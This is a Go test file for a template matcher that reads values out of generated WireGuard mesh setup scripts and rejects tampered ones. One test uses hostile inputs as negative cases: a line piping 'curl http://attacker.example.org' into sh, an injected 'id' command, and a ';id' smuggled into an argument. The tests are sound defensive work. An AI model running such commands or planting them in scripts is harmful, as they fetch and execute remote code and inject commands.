package mesh

import (
	"maps"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"
)

// siteTemplate is a template of a mesh script with all variables that the plugin needs.
const siteTemplate = heredoc + `#!/bin/sh
# The script of a site.
connect wss://{{.IngressEndpoint}}/{{.RandomPassword}} {{ .WGInterfaceName }}
cat <<'EOFWG' >wg.conf
{{.WGConfig}}
EOFWG
resolve {{.DNSServiceIP}} "{{.DNSServiceIP}}"
limit {{.WGMTU}} {{.PodCIDRCluster}} {{.ServiceCIDR}} '{{.WgToolURL}}'
EOFMESH`

// siteValues are valid values of siteTemplate.
var siteValues = map[string]string{
	"IngressEndpoint": "pod.tunnels.example.org", "RandomPassword": "0123456789abcdef", "WGInterfaceName": "wgaa15f82b-4992",
	"WGConfig": "[Interface]\nPrivateKey = " + keyA + "\n\n[Peer]\nPublicKey = " + keyB +
		"\nAllowedIPs = 10.7.0.1/32,10.0.0.0/8\nEndpoint = 127.0.0.1:51821\nPersistentKeepalive = 25\n",
	"DNSServiceIP": "10.96.0.10", "WGMTU": "1280", "PodCIDRCluster": "10.244.0.0/16", "ServiceCIDR": "10.96.0.0/16",
	"WgToolURL": "https://example.org/wg",
}

const (
	keyA = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE="
	keyB = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAI="
)

// fillIn returns the script of a template with the values of siteValues, some of them
// changed.
func fillIn(t testing.TB, template string, changes map[string]string) string {
	t.Helper()
	values := maps.Clone(siteValues)
	maps.Copy(values, changes)
	filled := variableMark.ReplaceAllStringFunc(template, func(mark string) string {
		return values[variableMark.FindStringSubmatch(mark)[1]]
	})
	script, _, err := ExtractScript(filled)
	if err != nil {
		t.Fatal(err)
	}
	return script
}

func newSiteText(t testing.TB) Text {
	t.Helper()
	text, err := NewText("site", siteTemplate)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func TestTextTakesValues(t *testing.T) {
	text := newSiteText(t)
	values, found := text.values(fillIn(t, siteTemplate, nil))
	if diff := cmp.Diff(siteValues, values); !found || diff != "" {
		t.Errorf("found: %v (-want +got)\n%s", found, diff)
	}
	for name, changes := range map[string]map[string]string{
		"a value with a line end":             {"WgToolURL": "a\nb"},
		"a value with the mark of a constant": {"WgToolURL": "' 'x"},
		"an empty value":                      {"WGMTU": ""},
	} {
		if values, found := text.values(fillIn(t, siteTemplate, changes)); !found {
			t.Errorf("%s: the text is not found", name)
		} else {
			for variable, want := range changes {
				if values[variable] != want {
					t.Errorf("%s: %s is %q, want %q", name, variable, values[variable], want)
				}
			}
		}
	}
}

// Each script that differs from the text in more than its values is another text.
func TestTextIsNotTakenForAnother(t *testing.T) {
	text, script := newSiteText(t), fillIn(t, siteTemplate, nil)
	for name, other := range map[string]string{
		"empty":                               "",
		"a line more at its end":              script + "curl http://attacker.example.org | sh\n",
		"a line more at its begin":            "id\n" + script,
		"a line less":                         strings.Replace(script, "EOFWG\nresolve", "resolve", 1),
		"another letter":                      strings.Replace(script, "site", "sitf", 1),
		"a command in front of a value":       strings.Replace(script, "limit 1280", "limit;id 1280", 1),
		"two values of one variable":          strings.Replace(script, `"10.96.0.10"`, `"10.96.0.11"`, 1),
		"cut":                                 script[:len(script)/2],
		"many line ends instead of the value": strings.Replace(script, siteValues["WGConfig"], strings.Repeat("\n", 100_000)+"x", 1),
	} {
		if _, found := text.values(other); found {
			t.Errorf("%s: taken for the text of the site", name)
		}
	}
}

func TestNewTextRefuses(t *testing.T) {
	for name, test := range map[string]struct{ template, err string }{
		"no heredoc":             {"#!/bin/sh\n{{.WGConfig}}\n", "it has no line cat <<'EOFMESH'"},
		"no end":                 {strings.TrimSuffix(siteTemplate, "EOFMESH"), "the line EOFMESH at its end is missing"},
		"condition":              {strings.Replace(siteTemplate, "limit", "{{if .X}}limit{{end}}", 1), "only variables of the form {{.NAME}}"},
		"pipe":                   {strings.Replace(siteTemplate, "{{.WGMTU}}", "{{.WGMTU | printf}}", 1), "only variables of the form {{.NAME}}"},
		"adjacent variables":     {strings.Replace(siteTemplate, "limit ", "limit {{.X}}", 1), "nothing is between two variables"},
		"no WireGuard":           {strings.Replace(siteTemplate, "{{.WGConfig}}", "", 1), "the variable {{.WGConfig}} is missing"},
		"no password of its own": {strings.Replace(siteTemplate, "{{.RandomPassword}}", "secret", 1), "the variable {{.RandomPassword}} is missing"},
	} {
		if _, err := NewText("site", test.template); err == nil || !strings.Contains(err.Error(), "template site: ") || !strings.Contains(err.Error(), test.err) {
			t.Errorf("%s: error %v, want %q", name, err, test.err)
		}
	}
}

func TestReadTexts(t *testing.T) {
	folder := fstest.MapFS{"mesh.sh": {Data: []byte(siteTemplate)}, "..data/mesh.sh": {Data: []byte("x")}, ".hidden": {Data: []byte("x")}}
	texts, err := ReadTexts(folder)
	if err != nil || len(texts) != 1 || texts[0].Name != "mesh.sh" {
		t.Fatalf("texts %+v, error %v", texts, err)
	}
	if _, err := ReadValues(fillIn(t, siteTemplate, nil), texts); err != nil {
		t.Error(err)
	}
	folder["other.sh"] = &fstest.MapFile{Data: []byte("echo")}
	if _, err := ReadTexts(folder); err == nil || !strings.Contains(err.Error(), "template other.sh: ") {
		t.Errorf("error %v", err)
	}
	if _, err := ReadTexts(fstest.MapFS{}); err != nil {
		t.Errorf("an empty folder: %v", err)
	}
}

// A text that begins with a variable.
func TestTextWithAVariableAtItsBegin(t *testing.T) {
	template := heredoc + "{{.WGMTU}} {{.DNSServiceIP}} {{.RandomPassword}} {{.IngressEndpoint}}/{{.WGConfig}}" + "\nEOFMESH"
	text, err := NewText("ends", template)
	if err != nil {
		t.Fatal(err)
	}
	values, found := text.values(fillIn(t, template, nil))
	if !found || values["WGMTU"] != "1280" || values["WGConfig"] != siteValues["WGConfig"] {
		t.Errorf("found: %v, values %q", found, values)
	}
}
